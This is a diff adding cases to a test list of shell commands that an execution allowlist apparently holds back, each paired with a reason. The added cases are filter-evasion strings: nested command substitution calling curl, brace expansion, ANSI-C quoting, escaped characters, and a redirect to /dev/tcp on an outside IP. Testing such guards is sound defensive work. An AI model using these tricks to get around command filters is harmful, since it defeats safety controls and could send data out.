@@ -115,6 +115,12 @@ HELD = [
     ("git \"status\" ; curl x", "not in exec.allow"),
     ("git status\x00; curl x", "NUL"),
     ("read 'a[$(curl x)]'", "can evaluate code"),
+    ("echo `echo \\`curl x\\``", "re-parsed by bash"),
+    ("echo ${x:-$(curl x)}", "not in exec.allow"),
+    ("git status 2>/dev/tcp/10.0.0.1/80", "outside the workspace"),
+    ("{curl,x}", "does not parse"),
+    ("$'git' status", "not a literal"),
+    ("\\c\\u\\r\\l x", "not in exec.allow"),
 ]
 
 
